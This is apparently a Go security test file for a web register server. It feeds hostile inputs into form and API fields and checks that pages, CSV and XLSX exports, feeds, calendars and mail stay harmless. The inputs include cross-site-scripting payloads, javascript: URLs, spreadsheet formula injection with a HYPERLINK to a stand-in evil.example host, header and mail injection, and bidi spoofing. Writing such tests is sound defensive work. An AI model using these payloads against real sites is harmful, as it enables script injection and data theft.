package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/karvan/karvan/register"
	"github.com/karvan/karvan/server"
)

// evilTexts are what somebody may write into a field that means no good. What becomes an
// element or attribute of a page has a name that is looked for.
var evilTexts = map[string]string{
	"script":       `<script>alert(1)</script><x-evil onload=alert(2)>"'>& `,
	"attribute":    `x" onmouseover="alert(1)" x='`,
	"ends":         `]]></title></textarea></svg><x-evil/>--><x-evil>`,
	"javascript":   `javascript:alert(1)`,
	"Javascript":   " \x01JaVaScRiPt:alert(1)",
	"tab in it":    "java\tscript:alert(1)",
	"data":         `data:text/html,<x-evil>`,
	"equals":       `=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"plus":         "+1+1|cmd",
	"minus":        "-2+3|cmd",
	"at":           "@SUM(A1)",
	"tab":          "\t=1+1",
	"return":       "\r=1+1",
	"lines":        "x\r\nSet-Cookie: evil=b\r\n\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nBcc: evil@example.org",
	"controls":     "bell\a escape\x1b[31m tab\v feed\f unit\x1f delete\x7f",
	"NUL":          "a\x00b<x-evil>",
	"no character": "a\ufffe\uffff\ufeffb\u2028\u2029",
}

// outputsOf are where everybody reads records of a kind.
func outputsOf(plural string) (pages, tables []string) {
	pages = []string{"/en/" + plural, "/ru/" + plural, "/en/changes", "/en/sources", "/en", "/en/pack", "/en/search?q=evil"}
	return pages, []string{"/api/v1/" + plural + ".csv", "/api/v1/" + plural + ".csv?separator=semicolon", "/api/v1/" + plural + ".csv?lang=ru"}
}

// harmless fails where what is published of a kind does harm in any output.
func (o *office) harmless(f *faults, plural string, records []string) {
	o.t.Helper()
	all := o.all(plural, "")
	pages, tables := outputsOf(plural)
	for _, r := range all {
		if slices.Contains(records, r.ID) {
			pages = append(pages, "/en/"+plural+"/"+r.Slug, "/az/"+plural+"/"+r.Slug, "/en/"+plural+"/"+r.Slug+"/brief")
			for _, at := range []string{"/api/v1/" + plural + "/" + r.ID, "/api/v1/" + plural + "/" + r.ID + "/statements", "/api/v1/" + plural + "/" + r.ID + "?format=geojson"} {
				if got := o.plain(http.MethodGet, at, nil); got.status != 200 || !json.Valid(got.body) || got.header.Get("Set-Cookie") != "" {
					f.add("%v", got)
				}
			}
			for _, text := range calendarFaults(o.plain(http.MethodGet, "/api/v1/"+plural+"/"+r.ID+"?format=ics", nil).body) {
				f.add("%s.ics: %s", r.ID, text)
			}
		}
	}
	for _, at := range pages {
		o.harmlessPage(f, at, o.plain(http.MethodGet, at, nil))
	}
	for _, at := range tables {
		r := o.plain(http.MethodGet, at, nil)
		c := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff"))))
		if strings.Contains(at, "semicolon") {
			c.Comma = ';'
		}
		rows, err := c.ReadAll()
		if err != nil || len(rows) != len(all)+1 {
			f.add("%s: %d rows of %d: %v", at, len(rows), len(all)+1, err)
			continue
		}
		for _, row := range rows {
			for i, cell := range row {
				if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
					f.add("%s: the cell %q of %s may be taken for a formula", at, cell, rows[0][i])
				}
			}
		}
	}
	atom := o.plain(http.MethodGet, "/api/v1/"+plural+".atom", nil)
	for _, text := range atomFaults(atom.body, len(all)) {
		f.add("Atom: %s", text)
	}
	for _, text := range calendarFaults(o.plain(http.MethodGet, "/api/v1/"+plural+".ics", nil).body) {
		f.add("ics: %s", text)
	}
	for i, line := range bytes.Split(bytes.TrimSpace(o.plain(http.MethodGet, "/api/v1/export/statements.ndjson", nil).body), []byte("\n")) {
		if !json.Valid(line) {
			f.add("statements.ndjson, line %d: %.200s", i+1, line)
		}
	}
	if book := unzipped(o.t, o.plain(http.MethodGet, "/api/v1/export/en/register.xlsx", nil).body); strings.Contains(book, "<f>") || strings.Contains(book, "<x-evil") {
		f.add("the workbook has a formula or an element")
	}
}

// harmlessPage fails where a page has what somebody wrote as more than a text.
func (o *office) harmlessPage(f *faults, at string, r reply) {
	o.t.Helper()
	if r.media() != "text/html" {
		f.add("no page: %v", r)
		return
	}
	language := strings.Split(at, "/")[1]
	for _, text := range pageFaults(string(r.body), language) {
		if !strings.HasPrefix(text, "lang=") { // see the test of languages
			f.add("%s: %s", at, text)
		}
	}
	doc := parse(o.t, string(r.body))
	if find(doc, "x-evil") != nil {
		f.add("%s: a text became an element", at)
	}
	for _, n := range elements(doc, "") {
		for _, name := range []string{"href", "src", "action", "formaction"} {
			to, has := attribute(n, name)
			if !has {
				continue
			}
			u, err := url.Parse(to)
			if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) || strings.HasPrefix(to, "//") {
				f.add("%s: <%s %s=%.80q>: %v", at, n.Data, name, to, err)
			}
		}
	}
	if i := bytes.IndexByte(r.body, 0); i >= 0 {
		f.add("%s: a NUL: %.60q", at, r.body[max(0, i-30):])
	}
	if strings.Contains(strings.Join(r.header.Values("Set-Cookie"), ""), "evil") || r.header.Get("Bcc") != "" {
		f.add("%s: %v", at, r.header)
	}
}

// taken reports whether something was taken; else it must have been refused for a reason.
func taken(f *faults, name string, r reply) bool {
	f.Helper()
	if r.status == http.StatusCreated || r.status == http.StatusOK {
		return true
	}
	if p, err := problemOf(r); err != nil || r.status < 400 || r.status >= 500 || p.Detail == "" {
		f.add("%s: neither taken nor refused: %v", name, r)
	}
	return false
}

// publish brings something on to what everybody reads; the register may refuse it on the way.
func (o *office) publish(f *faults, name string, s submitted) bool {
	o.t.Helper()
	for _, step := range [][2]string{{"publisher", "accept"}, {"second", "publish"}} {
		r := o.as(step[0], http.MethodPost, "/api/v1/submissions/"+s.ID+"/"+step[1], map[string]any{}, "If-Match", quote(s.Version))
		if !taken(f, name+", "+step[1], r) {
			return false
		}
		o.want(r, http.StatusOK, &s)
	}
	return true
}

// Script, formula, line and control characters in each field of an interest are refused, or
// do no harm wherever it is read.
func TestAttackInterestFields(t *testing.T) {
	t.Parallel()
	o := openOffice(t)
	f := faults{T: t}
	defer f.tell()
	profile := func(in map[string]any) map[string]any { return in["profile"].(map[string]any) }
	contact := func(in map[string]any) map[string]any { return profile(in)["contact"].(map[string]any) }
	first := func(in map[string]any) map[string]any { return in["references"].([]map[string]any)[0] }
	fields := map[string]func(in map[string]any, text string){
		"name": func(in map[string]any, x string) { profile(in)["name"] = x }, "country": func(in map[string]any, x string) { profile(in)["country"] = x }, "country of two": func(in map[string]any, x string) { profile(in)["country"] = (x + "  ")[:2] },
		"legal id": func(in map[string]any, x string) { profile(in)["legal_id"] = x }, "url": func(in map[string]any, x string) { profile(in)["url"] = x }, "url's path": func(in map[string]any, x string) { profile(in)["url"] = "https://example.org/" + x },
		"contact name": func(in map[string]any, x string) { contact(in)["name"] = x }, "mail": func(in map[string]any, x string) { contact(in)["email"] = x }, "mail's name": func(in map[string]any, x string) { contact(in)["email"] = x + "@example.org" }, "phone": func(in map[string]any, x string) { contact(in)["phone"] = x },
		"service": func(in map[string]any, x string) { in["services"] = []string{x} }, "role": func(in map[string]any, x string) { in["roles"] = []string{x} }, "text": func(in map[string]any, x string) { in["text"] = x }, "partner": func(in map[string]any, x string) { in["partners"] = []string{x} },
		"reference": func(in map[string]any, x string) { first(in)["text"] = x }, "year": func(in map[string]any, x string) { first(in)["year"] = string([]rune(x)[:min(4, len([]rune(x)))]) }, "link": func(in map[string]any, x string) { first(in)["url"] = x },
		"project": func(in map[string]any, x string) { in["projects"] = []string{x} }, "programme": func(in map[string]any, x string) { in["programme"] = x }, "countries": func(in map[string]any, x string) { in["countries"] = []string{x} },
		"valid until": func(in map[string]any, x string) { in["valid_until"] = x }, "visibility": func(in map[string]any, x string) { in["visibility"] = x }, "language": func(in map[string]any, x string) { in["language"] = x }, "replaces": func(in map[string]any, x string) { in["replaces"] = x },
	}
	company, second := o.signedIn("company"), o.signedIn("second")
	var published []string
	for kind, text := range evilTexts {
		for field, set := range fields {
			in := o.interest("public", "word")
			set(in, text)
			r := o.as("company", http.MethodPost, "/api/v1/interests", in)
			name := field + ", " + kind
			if !taken(&f, name, r) {
				continue
			}
			var s submitted
			o.want(r, http.StatusCreated, &s)
			if o.publish(&f, name, s) {
				published = append(published, s.Subject)
			}
			if field != "name" && field != "text" && field != "reference" {
				continue
			}
			o.harmlessPage(&f, "/en/work/interest", company.do(http.MethodGet, "/en/work/interest?submission="+s.ID, ""))
			for _, at := range []string{"/en/work/submissions/" + s.ID, "/en/work/records/" + s.Subject} {
				o.harmlessPage(&f, at, second.do(http.MethodGet, at, ""))
			}
		}
	}
	for _, who := range []string{"company", "second"} {
		o.harmlessPage(&f, "/en/work", o.signedIn(who).do(http.MethodGet, "/en/work", ""))
	}
	if len(published) < 50 {
		t.Errorf("only %d are published", len(published))
	}
	o.harmless(&f, "interests", published)
	// The form shows again what it refuses, and so does the preview.
	for _, text := range evilTexts {
		for _, do := range []string{"preview", "change", "submit"} {
			for _, only := range []string{"text", ""} {
				form := interestForm(o, "word")
				for key := range form {
					if only == "" || key == only {
						form[key] = []string{text}
					}
				}
				form.Set("do", do)
				form.Set(`x"><x-evil>`, text)
				if do == "submit" {
					form.Set("visibility", text) // it is refused
				}
				o.harmlessPage(&f, "/en/work/interest", company.post("/en/work/interest", form))
			}
		}
	}
}

// So in each part of an edit and of its source.
func TestAttackEditFields(t *testing.T) {
	t.Parallel()
	o := openOffice(t)
	f := faults{T: t}
	defer f.tell()
	projects := o.all("projects", "&country=AZ")
	if len(projects) < len(evilTexts) {
		t.Fatalf("%d projects", len(projects))
	}
	type edit struct {
		change, source, said map[string]any
	}
	fields := map[string]func(e edit, text string){
		"title": func(e edit, x string) { e.change["value"] = x }, "title in ru": func(e edit, x string) { e.change["path"], e.change["value"] = "title@ru", x }, "title in x": func(e edit, x string) { e.change["path"], e.change["value"] = "title@"+x, x },
		"description": func(e edit, x string) { e.change["path"], e.change["value"] = "description", x }, "document": func(e edit, x string) { e.change["path"], e.change["value"] = "documents[d1]/url", x }, "document's title": func(e edit, x string) { e.change["path"], e.change["value"] = "documents[d1]/title", x },
		"place": func(e edit, x string) { e.change["path"], e.change["value"] = "locations[l9]/uri", x }, "path": func(e edit, x string) { e.change["path"], e.change["value"] = x, x }, "key": func(e edit, x string) { e.change["path"], e.change["value"] = "documents["+x+"]/title", x },
		"reason": func(e edit, x string) { e.change["pinned"], e.change["reason"] = true, x }, "status": func(e edit, x string) { e.change["path"], e.change["value"] = "status", x }, "its source": func(e edit, x string) { e.change["source_id"] = x },
		"locator": func(e edit, x string) { e.said["locator"] = x }, "confidence": func(e edit, x string) { e.said["confidence"] = x }, "as of": func(e edit, x string) { e.said["as_of"] = x }, "known on": func(e edit, x string) { e.said["known_on"] = x },
		"source id": func(e edit, x string) { e.source["id"], e.said["source_id"] = x, x }, "source title": func(e edit, x string) { e.source["title"] = map[string]string{"en": x, "ru": x} }, "source language": func(e edit, x string) { e.source["title"] = map[string]string{"en": "x", x: x} },
		"source url": func(e edit, x string) { e.source["url"] = x }, "source url's path": func(e edit, x string) { e.source["url"] = "https://example.org/" + x },
	}
	for _, name := range []string{"publisher", "author", "place", "language", "date", "class"} {
		fields["source "+name] = func(e edit, x string) { e.source[name] = x }
	}
	n, second := 0, o.signedIn("second")
	var changed, sources []string
	for kind, text := range evilTexts {
		p := projects[n%len(projects)]
		n++
		for field, set := range fields {
			id := fmt.Sprintf("evil-%s-%d", register.Slug(field), n)
			e := edit{map[string]any{"path": "title", "value": "A road"}, map[string]any{"id": id, "class": "press", "title": map[string]string{"en": "A source"}}, map[string]any{"source_id": id, "known_on": "2022-01-10"}}
			set(e, text)
			name := field + ", " + kind
			r := o.as("editor", http.MethodPatch, "/api/v1/work/records/"+p.ID, map[string]any{"changes": []any{e.change}, "source": e.source, "said": e.said}, "If-Match", `"99999999"`)
			if !taken(&f, name, r) {
				continue
			}
			var s submitted
			o.want(r, http.StatusCreated, &s)
			if slices.Contains([]string{"script", "attribute", "ends", "javascript", "NUL"}, kind) {
				at := "/en/work/submissions/" + s.ID
				o.harmlessPage(&f, at, second.do(http.MethodGet, at, ""))
			}
			if o.publish(&f, name, s) {
				changed, sources = append(changed, p.ID), append(sources, fmt.Sprint(e.source["id"]))
			}
		}
		at := "/en/work/records/" + p.ID
		o.harmlessPage(&f, at, o.signedIn("publisher").do(http.MethodGet, at, ""))
	}
	if len(changed) < 100 {
		t.Errorf("only %d are published", len(changed))
	}
	o.harmless(&f, "projects", slices.Compact(sorted(changed)))
	for _, id := range sources {
		if at := "/en/sources/" + url.PathEscape(id); o.plain(http.MethodGet, at, nil).status == http.StatusOK {
			o.harmlessPage(&f, at, o.plain(http.MethodGet, at, nil))
		}
	}
	o.harmlessPage(&f, "/en/work/audit", o.signedIn("auditor").do(http.MethodGet, "/en/work/audit", ""))
}

// The language of a text is one that there is: it becomes an attribute of pages.
func TestAttackLanguageOfTexts(t *testing.T) {
	t.Parallel()
	o := openOffice(t)
	p := o.project().ID
	tag := o.as("editor", http.MethodGet, "/api/v1/work/records/"+p, nil).header.Get("ETag")
	for name, body := range map[string]map[string]any{
		"of a path":   {"changes": []map[string]any{{"path": `title@x" y`, "value": "x"}}, "said": map[string]any{"source_id": article}},
		"of a source": {"changes": []map[string]any{{"path": "title", "value": "x"}}, "source": map[string]any{"id": "evil", "class": "press", "title": map[string]string{`x" y`: "x"}}, "said": map[string]any{"source_id": "evil"}},
	} {
		if r := o.as("editor", http.MethodPatch, "/api/v1/work/records/"+p, body, "If-Match", tag); r.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %v", name, r)
		}
	}
}

// So in a report, a token's name and what an issuer calls people.
func TestAttackSmallForms(t *testing.T) {
	t.Parallel()
	o, i := openWithIssuer(t)
	f := faults{T: t}
	defer f.tell()
	p := o.project().ID
	b := o.signedIn("company")
	for kind, text := range evilTexts {
		for name, body := range map[string]map[string]any{"text": {"record": p, "text": text}, "mail": {"record": p, "text": "x", "mail": text}, "mail's name": {"record": p, "text": "x", "mail": text + "@example.org"}, "record": {"record": text, "text": "x"}} {
			taken(&f, name+", "+kind, o.as("", http.MethodPost, "/api/v1/reports", body))
		}
		for _, form := range []url.Values{{"record": {p}, "text": {""}, "mail": {text}}, {"record": {p}, "text": {text}, "mail": {"x"}}} {
			o.harmlessPage(&f, "/en/work/report", b.post("/en/work/report", form))
		}
		if r := b.do(http.MethodPost, "/api/v1/me/tokens", string(mustMarshal(map[string]any{"name": text, "scopes": []string{"read"}, "expires_in_days": 1})), "Content-Type", "application/json"); !taken(&f, "token, "+kind, r) {
			continue
		}
		o.harmlessPage(&f, "/en/work/tokens", b.post("/en/work/tokens", url.Values{"name": {text}, "scopes": {text}, "days": {text}}))
		o.harmlessPage(&f, "/en/work/confirm", b.do(http.MethodGet, "/en/work/confirm?code="+url.QueryEscape(text), ""))
		o.harmlessPage(&f, "/en/work/alerts", b.post("/en/work/alerts", url.Values{"kind": {text}, "service": {text}, "country": {text}}))
		o.harmlessPage(&f, "/en/work/interest", o.browser().do(http.MethodGet, "/en/work/interest?project="+url.QueryEscape(text), ""))
		i.person = person{"person " + kind, text, "", false}
		in := o.browser()
		in.signIn("/")
		o.harmlessPage(&f, "/en/work", in.do(http.MethodGet, "/en/work", ""))
	}
	o.harmlessPage(&f, "/en/work/tokens", b.do(http.MethodGet, "/en/work/tokens", ""))
	for _, at := range []string{"/en/work/accounts", "/en/work/audit"} {
		o.harmlessPage(&f, at, o.signedIn("administrator").do(http.MethodGet, at, ""))
	}
	var l struct {
		Items []submitted `json:"items"`
	}
	o.want(o.as("publisher", http.MethodGet, "/api/v1/submissions?object=report", nil), http.StatusOK, &l)
	if len(l.Items) < len(evilTexts)/2 {
		t.Errorf("%d reports", len(l.Items))
	}
	for _, s := range l.Items {
		at := "/en/work/submissions/" + s.ID
		o.harmlessPage(&f, at, o.signedIn("publisher").do(http.MethodGet, at, ""))
	}
}

// sink keeps the mails that would be sent.
type sink struct{ mails [][3]string }

func (s *sink) Send(_ context.Context, to, title, body string) error {
	s.mails = append(s.mails, [3]string{to, title, body})
	return nil
}

// What somebody writes becomes no header of a mail, and goes to one address.
func TestAttackMail(t *testing.T) {
	t.Parallel()
	var got sink
	o := openOffice(t, func(o *server.Options) { o.Work.Mail, o.Base = &got, siteBase })
	f := faults{T: t}
	defer f.tell()
	for kind, text := range evilTexts {
		in := o.interest("public", "word")
		in["profile"].(map[string]any)["name"] = text
		taken(&f, kind, o.as("company", http.MethodPost, "/api/v1/interests", in))
	}
	for _, to := range []string{"a@example.org, b@example.org", "a@example.org\r\nBcc: b@example.org", "<a@example.org>", "A <a@example.org>", "a@example.org\x00", "a@example.org;b@example.org", "-f@example.org b@example.org", "\"a\r\nBcc: b\"@example.org"} {
		in := o.interest("public", "word")
		in["profile"].(map[string]any)["contact"].(map[string]any)["email"] = to
		if r := o.as("company", http.MethodPost, "/api/v1/interests", in); r.status != http.StatusUnprocessableEntity {
			t.Errorf("%q: %v", to, r)
		}
	}
	o.h.RunJobs(t.Context())
	if len(got.mails) < len(evilTexts)/2 {
		t.Errorf("%d mails", len(got.mails))
	}
	for _, m := range got.mails {
		if m[0] != "word@example.org" || strings.ContainsAny(m[1], "\r\n\x00") || strings.Contains(m[2], "\r") {
			t.Errorf("%q", m)
		}
	}
	var secrets int
	if err := o.db.SQL().QueryRowContext(t.Context(), "SELECT count(*) FROM outbox WHERE sent_at <> '' AND body <> ''").Scan(&secrets); err != nil || secrets > 0 {
		t.Errorf("%d links are kept: %v", secrets, err)
	}
}

// What turns the direction of writing is refused, or does not reach beyond the name that it
// stands in: else what follows on the line reads as something else.
func TestAttackBidi(t *testing.T) {
	t.Parallel()
	o := openOffice(t)
	f := faults{T: t}
	defer f.tell()
	const turns = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
	// The end of a block ends them as well.
	blocks := []string{"title", "bdi", "h1", "h2", "h3", "td", "th", "dd", "dt", "p", "li", "textarea", "option"}
	for _, text := range []string{"Acme \u202egpj.exe", "Acme \u202bx", "Acme \u2067x"} {
		in := o.interest("public", "word")
		in["profile"].(map[string]any)["name"] = text
		name := fmt.Sprintf("%q", text)
		r := o.as("company", http.MethodPost, "/api/v1/interests", in)
		if !taken(&f, name, r) {
			continue
		}
		var s submitted
		o.want(r, http.StatusCreated, &s)
		o.publish(&f, name, s)
		for path, b := range map[string]*browser{"/en/interests": o.browser(), "/en/work": o.signedIn("company"), "/en/work/submissions/" + s.ID: o.signedIn("publisher")} {
			page := b.do(http.MethodGet, path, "")
			met := map[string]bool{}
			for d := range parse(t, string(page.body)).Descendants() {
				if d.Type != html.TextNode || !strings.Contains(d.Data, text) || !strings.ContainsAny(d.Data, turns) || slices.Contains(blocks, d.Parent.Data) || attr(d.Parent, "dir") == "auto" || met[d.Parent.Data] {
					continue
				}
				met[d.Parent.Data] = true
				f.add("%s: %s has it in <%s>", name, path, d.Parent.Data)
			}
		}
	}
}
